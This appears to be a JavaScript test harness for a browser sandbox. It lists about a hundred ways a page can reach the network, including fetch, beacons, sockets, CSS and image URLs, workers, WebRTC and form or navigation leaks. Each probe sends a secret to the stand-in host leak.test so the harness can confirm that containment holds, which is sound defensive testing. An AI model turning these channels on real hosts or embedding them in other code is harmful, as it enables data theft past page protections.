/**
 * Ways for a page to reach the network, one function each. Planted in an unprotected page they prove that the harness
 * can see; injected into the app's own realm they prove that nothing gets out. Each gets `at(suffix)`, a URL whose host
 * and path both name the probe and the secret, so that a lookup, a connection and sent bytes can be told apart.
 */
(() => {
  const put = (tag, attributes = {}, parent = document.body) => {
    const node = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) node.setAttribute(name, value);
    parent.append(node);
    return node;
  };
  const link = (rel, href, more) => put("link", { rel, href, ...more }, document.head);
  const style = (text) => (put("style", {}, document.head).textContent = text);
  const box = (text, more) => put("div", { style: `width:9px;height:9px;${text}`, ...more }).append("x");
  const svg = (tag, attributes, parent) => {
    const node = document.createElementNS("http://www.w3.org/2000/svg", tag);
    for (const [name, value] of Object.entries(attributes)) node.setAttribute(name, value);
    parent.append(node);
    return node;
  };
  const drawing = () => svg("svg", { width: 9, height: 9 }, document.body);
  const script = (text, more) => {
    const node = document.createElement("script");
    for (const [name, value] of Object.entries(more ?? {})) node.setAttribute(name, value);
    node.textContent = text;
    document.body.append(node);
  };
  const blob = (text, type = "text/javascript") => URL.createObjectURL(new Blob([text], { type }));
  const form = (more, fields) => {
    const node = put("form", more);
    for (const [name, value] of Object.entries(fields)) put("input", { name, value }, node);
    return node;
  };
  const secure = (url) => url.replace("http:", "https:");
  const bareHost = (url) => new URL(url).host;
  const fresh = () => put("iframe").contentWindow;
  const peer = async (Peer, server) => {
    const connection = new Peer({ iceServers: server ? [server] : [] });
    globalThis.keptPeers = [...(globalThis.keptPeers ?? []), connection];
    connection.createDataChannel("x");
    await connection.setLocalDescription(await connection.createOffer());
    return connection;
  };

  /** Stay on the page: all of them may run after one another. */
  const stay = {
    fetch: (at) => fetch(at()),
    "fetch-post": (at, secret) => fetch(at(), { method: "POST", mode: "no-cors", body: secret }),
    "fetch-keepalive": (at) => fetch(at(), { keepalive: true, mode: "no-cors" }),
    "fetch-later": (at) => fetchLater(secure(at()), { activateAfter: 0 }),
    xhr: (at) => {
      const request = new XMLHttpRequest();
      request.open("GET", at());
      request.send();
    },
    beacon: (at, secret) => navigator.sendBeacon(at(), secret),
    "event-source": (at) => new EventSource(at()),
    "web-socket": (at) => new WebSocket(at().replace("http", "ws")),
    "web-transport": (at) => new WebTransport(secure(at())),
    image: (at) => put("img", { src: at() }),
    "image-object": (at) => (new Image().src = at()),
    "image-srcset": (at) => put("img", { srcset: `${at()} 1x` }),
    "image-input": (at) => put("input", { type: "image", src: at() }),
    picture: (at) => {
      const picture = put("picture");
      put("source", { srcset: at() }, picture);
      put("img", {}, picture);
    },
    "svg-image": (at) => svg("image", { href: at(), width: 9, height: 9 }, drawing()),
    "svg-use": (at) => svg("use", { href: `${at()}#x` }, drawing()),
    "svg-filter": (at) => svg("feImage", { href: at() }, svg("filter", { id: "f" }, drawing())),
    video: (at) => put("video", { src: at(), preload: "auto" }),
    poster: (at) => put("video", { poster: at() }),
    audio: (at) => put("audio", { src: at(), preload: "auto" }),
    "audio-object": (at) => new Audio(at()).load(),
    track: (at) => {
      const video = put("video", { crossorigin: "anonymous" });
      put("track", { src: at(".vtt"), default: "" }, video).track.mode = "showing";
    },
    embed: (at) => put("embed", { src: at() }),
    object: (at) => put("object", { data: at() }),
    iframe: (at) => put("iframe", { src: at() }),
    "iframe-srcdoc": (at) => (put("iframe").srcdoc = `<img src="${at()}">`),
    "iframe-refresh": (at) => (put("iframe").srcdoc = `<meta http-equiv=refresh content="0;url=${at()}">`),
    "iframe-data": (at) => put("iframe", { src: `data:text/html,<img src="${at()}">` }),
    "iframe-blob": (at) => put("iframe", { src: blob(`<img src="${at()}">`, "text/html") }),
    script: (at) => (put("script").src = at(".js")),
    "script-inline": (at) => script(`fetch(${JSON.stringify(at())})`),
    "script-module": (at) => script(`import ${JSON.stringify(at(".js"))}`, { type: "module" }),
    import: (at) => import(at(".js")),
    eval: (at) => (0, eval)(`fetch(${JSON.stringify(at())})`),
    speculation: (at) =>
      script(JSON.stringify({ prefetch: [{ source: "list", urls: [secure(at())] }] }), { type: "speculationrules" }),
    prerender: (at) =>
      script(JSON.stringify({ prerender: [{ source: "list", urls: [secure(at())] }] }), { type: "speculationrules" }),
    stylesheet: (at) => link("stylesheet", at(".css")),
    icon: (at) => link("icon", at()),
    "touch-icon": (at) => link("apple-touch-icon", at()),
    manifest: (at) => link("manifest", at(".json")),
    preload: (at) => link("preload", at(), { as: "image" }),
    "preload-fetch": (at) => link("preload", at(), { as: "fetch", crossorigin: "" }),
    modulepreload: (at) => link("modulepreload", at(".js")),
    prefetch: (at) => link("prefetch", at()),
    "dns-prefetch": (at) => link("dns-prefetch", `//${bareHost(at())}`),
    preconnect: (at) => link("preconnect", at()),
    "css-import": (at) => style(`@import url(${at(".css")});`),
    "css-background": (at) => (style(`.pb{background:url(${at()})}`), box("", { class: "pb" })),
    "css-attribute": (at) => box(`background:url(${at()})`),
    "css-setter": (at) => (put("div").style.background = `url(${at()})`),
    "css-adopted": (at) => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`.pa{background:url(${at()})}`);
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
      box("", { class: "pa" });
    },
    "css-list": (at) => (put("ul").appendChild(document.createElement("li")).style.listStyleImage = `url(${at()})`),
    "css-content": (at) => (put("span").style.content = `url(${at()})`),
    "css-mask": (at) => (style(`.pm{mask-image:url(${at()})}`), box("", { class: "pm" })),
    "css-border": (at) => (style(`.po{border:3px solid;border-image:url(${at()}) 1}`), box("", { class: "po" })),
    "css-shape": (at) => (style(`.ps{float:left;shape-outside:url(${at()})}`), box("", { class: "ps" })),
    "css-font": (at) => (style(`@font-face{font-family:pf;src:url(${at()})}`), box("font-family:pf")),
    "font-object": (at) => new FontFace("pg", `url(${at()})`).load(),
    "worker-fetch": (at) => new Worker(blob(`fetch(${JSON.stringify(at())})`)),
    "worker-import": (at) => new Worker(blob(`importScripts(${JSON.stringify(at(".js"))})`)),
    "worker-socket": (at) => new Worker(blob(`new WebSocket(${JSON.stringify(at().replace("http", "ws"))})`)),
    "shared-worker": (at) => new SharedWorker(blob(`fetch(${JSON.stringify(at())})`)),
    "audio-worklet": (at) => new AudioContext().audioWorklet.addModule(at(".js")),
    "paint-worklet": (at) => CSS.paintWorklet.addModule(at(".js")),
    payment: (at) => new PaymentRequest([{ supportedMethods: secure(at()) }], total).canMakePayment(),
    fedcm: (at) => navigator.credentials.get({ identity: { providers: [{ configURL: secure(at()), clientId: "1" }] } }),
    presentation: (at) => new PresentationRequest([at()]).getAvailability(),
    "link-ping": (at) => put("a", { href: "#x", ping: at() }).click(),
    "form-frame": (at, secret) => {
      put("iframe", { name: "landing" });
      form({ action: at(), method: "post", target: "landing" }, { secret }).submit();
    },
    "fresh-fetch": (at) => fresh().fetch(at()),
    "fresh-rtc": (at) => peer(fresh().RTCPeerConnection, { urls: `stun:${bareHost(at())}:3478` }),
    "rtc-stun": (at) => peer(RTCPeerConnection, { urls: `stun:${bareHost(at())}:3478` }),
    "rtc-turn": (at) =>
      peer(RTCPeerConnection, { urls: `turn:${bareHost(at())}:3478`, username: path(at), credential: "x" }),
    "rtc-turn-tcp": (at) =>
      peer(RTCPeerConnection, {
        urls: `turn:${bareHost(at())}:3478?transport=tcp`,
        username: path(at),
        credential: "x",
      }),
    "rtc-peer": async (at) => {
      const connection = await peer(RTCPeerConnection);
      const offer = connection.localDescription.sdp;
      const answer = offer
        .replace(/a=setup:actpass/g, "a=setup:passive")
        .replace(/a=candidate.*\r\n/g, "")
        .replace(/a=ice-ufrag:.*/g, `a=ice-ufrag:${path(at).replaceAll("-", "+")}`)
        .replace(/a=ice-pwd:.*/g, "a=ice-pwd:0123456789012345678901234567");
      await connection.setRemoteDescription({ type: "answer", sdp: answer });
      await connection.addIceCandidate({
        candidate: "candidate:1 1 udp 2122260223 203.0.113.251 3478 typ host",
        sdpMLineIndex: 0,
      });
    },
  };
  const total = { total: { label: "x", amount: { currency: "EUR", value: "1" } } };
  const path = (at) => new URL(at()).pathname.slice(1);

  /** Leave the page or open another: each needs a page of its own. */
  const leave = {
    "window-open": (at) => window.open(at()),
    "link-blank": (at) => put("a", { href: at(), target: "_blank" }).click(),
    "form-blank": (at, secret) => form({ action: at(), method: "post", target: "_blank" }, { secret }).submit(),
    "location-href": (at) => (location.href = at()),
    "location-assign": (at) => location.assign(at()),
    "location-replace": (at) => location.replace(at()),
    "top-location": (at) => (top.location = at()),
    "parent-replace": (at) => parent.location.replace(at()),
    "open-self": (at) => window.open(at(), "_self"),
    "open-top": (at) => window.open(at(), "_top"),
    link: (at) => put("a", { href: at() }).click(),
    "link-top": (at) => put("a", { href: at(), target: "_top" }).click(),
    "link-download": (at) => put("a", { href: at(), download: "x" }).click(),
    area: (at) => put("area", { href: at() }, put("map")).click(),
    "form-get": (at, secret) => form({ action: at() }, { secret }).submit(),
    "form-post": (at, secret) => form({ action: at(), method: "post" }, { secret }).submit(),
    "form-top": (at, secret) => form({ action: at(), method: "post", target: "_top" }, { secret }).submit(),
    refresh: (at) => put("meta", { "http-equiv": "refresh", content: `0;url=${at()}` }, document.head),
    "document-write": (at) => (document.open(), document.write(`<img src="${at()}">`), document.close()),
    "navigation-api": (at) => navigation.navigate(at()).committed.catch(() => {}),
  };

  const all = { ...stay, ...leave };
  globalThis.probeIds = { stay: Object.keys(stay), leave: Object.keys(leave) };

  /** Runs the named probes; a probe that throws has simply failed to leak. Says which ones threw. */
  globalThis.runProbes = (ids, secret) => {
    const threw = {};
    for (const id of ids) {
      const at = (suffix = "") => `http://${id}.${secret}.leak.test/probe-${id}-${secret}${suffix}?s=${secret}`;
      const failed = (error) => (threw[id] = String(error).slice(0, 90));
      try {
        Promise.resolve(all[id](at, secret)).catch(failed);
      } catch (error) {
        failed(error);
      }
    }
    return threw;
  };
})();
